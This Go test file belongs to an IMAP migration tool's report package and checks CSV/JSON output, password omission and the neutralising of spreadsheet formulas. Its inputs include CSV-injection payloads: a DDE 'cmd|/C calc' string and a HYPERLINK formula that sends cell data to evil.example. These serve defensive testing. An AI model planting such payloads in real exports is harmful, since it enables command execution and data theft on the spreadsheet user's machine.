package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/imapmigrate/imapmigrate/internal/migration"
)

func TestWriteCSVAndJSON(t *testing.T) {
	at := time.Date(2026, 11, 21, 10, 0, 0, 0, time.UTC)
	users := []migration.User{
		{EmailAddress: "terry@new.example", Password: "SEALED-SECRET", Status: migration.UserSynced, ItemsSynced: 120, ItemsSkipped: 2,
			SkippedBy: map[string]int{"too_large": 1, "rejected": 1}, BytesSynced: 4096, Folders: 7, FirstSync: at, LastSync: at, NextSync: at.Add(24 * time.Hour)},
		{EmailAddress: "ann@new.example", Password: "SEALED-SECRET", Status: migration.UserFailed, Error: `login as source "ann" at imap:993: [AUTHENTICATIONFAILED]`},
	}
	var buf bytes.Buffer
	if err := Write(&buf, "csv", users); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || strings.Join(recs[0], ",") != strings.Join(Columns, ",") {
		t.Fatalf("csv = %v", recs)
	}
	if got := strings.Join(recs[1], ","); got != "terry@new.example,Synced,120,2,rejected=1; too_large=1,4096,7,2026-11-21T10:00:00Z,2026-11-21T10:00:00Z,2026-11-22T10:00:00Z," {
		t.Errorf("row = %s", got)
	}
	if recs[2][1] != "Failed" || !strings.Contains(recs[2][10], "AUTHENTICATIONFAILED") || recs[2][9] != "" {
		t.Errorf("failed row = %v", recs[2])
	}
	buf.Reset()
	if err := Write(&buf, "json", users); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{buf.String()} {
		if strings.Contains(out, "SEALED-SECRET") {
			t.Error("the report holds a password")
		}
	}
	if !strings.Contains(buf.String(), `"ItemsSynced": 120`) {
		t.Errorf("json = %s", buf.String())
	}
	if err := Write(&buf, "xml", users); err == nil {
		t.Error("unknown format accepted")
	}
}

// Values from outside (addresses, server errors, folder names in them,
// skip reasons) that a spreadsheet would run as formulas are neutralised in
// CSV, and only there.
func TestCSVNeutralisesFormulas(t *testing.T) {
	hostile := []string{
		"=cmd|'/C calc'!A0@x.example",
		"+SUM(A1:A9)",
		"-2+3",
		"@SUM(1,2)",
		"\t=1+1",
		"\r=1+1",
		`=HYPERLINK("http://evil.example/?"&A1,"folder INBOX")`,
	}
	var users []migration.User
	for _, h := range hostile {
		users = append(users, migration.User{EmailAddress: h, Status: migration.UserFailed, Error: h,
			SkippedBy: map[string]int{h: 1}})
	}
	// Not at the start of a cell: harmless, unchanged.
	users = append(users, migration.User{EmailAddress: "terry@new.example", Status: migration.UserFailed,
		Error: `select folder "=cmd|'/C calc'!A0": [NONEXISTENT] no such folder`})
	var buf bytes.Buffer
	if err := Write(&buf, "csv", users); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		r := recs[i+1]
		for _, col := range []int{0, 4, 10} {
			want := "'" + h
			if col == 4 {
				want = "'" + h + "=1"
			}
			if r[col] != want {
				t.Errorf("row %d column %s = %q, want %q", i+1, Columns[col], r[col], want)
			}
		}
	}
	for _, r := range recs {
		for j, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %s = %q starts a formula", Columns[j], c)
			}
		}
	}
	if last := recs[len(recs)-1]; last[0] != "terry@new.example" || !strings.HasPrefix(last[10], `select folder "=cmd`) {
		t.Errorf("harmless row changed: %q", last)
	}

	// JSON keeps the values as they are.
	buf.Reset()
	if err := Write(&buf, "json", users); err != nil {
		t.Fatal(err)
	}
	var rows []Row
	if err := json.Unmarshal(buf.Bytes(), &rows); err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		if rows[i].EmailAddress != h || rows[i].Error != h {
			t.Errorf("json row %d = %q %q, want %q", i, rows[i].EmailAddress, rows[i].Error, h)
		}
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "terry@new.example": "terry@new.example", "0": "0", "2026-11-21T10:00:00Z": "2026-11-21T10:00:00Z",
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx", "'=1": "'=1", " =1": " =1",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
